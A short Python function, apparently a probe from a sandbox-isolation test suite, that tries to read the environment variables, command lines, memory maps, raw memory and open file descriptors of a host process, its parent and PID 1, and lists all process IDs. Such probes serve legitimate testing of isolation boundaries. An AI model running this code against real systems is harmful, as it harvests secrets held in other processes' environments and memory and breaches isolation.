"""Read other processes' /proc entries: the host's environ, cmdline, memory maps, fds."""

import os


def attack(event, ctx):
    got, errors = {}, []
    pids = [event["host_pid"], os.getppid(), 1]
    for pid in pids:
        for entry in ("environ", "cmdline", "maps", "status", "mem"):
            path = f"/proc/{pid}/{entry}"
            try:
                with open(path, "rb") as fh:
                    got[path] = fh.read(65536).decode("latin-1")
            except Exception as exc:
                errors.append(f"{path}: {type(exc).__name__}")
        try:
            got[f"/proc/{pid}/fd"] = sorted(os.listdir(f"/proc/{pid}/fd"))
        except Exception as exc:
            errors.append(f"/proc/{pid}/fd: {type(exc).__name__}")
    try:
        got["pids"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    except Exception as exc:
        errors.append(f"/proc: {type(exc).__name__}")
    return {"got": got, "errors": errors}
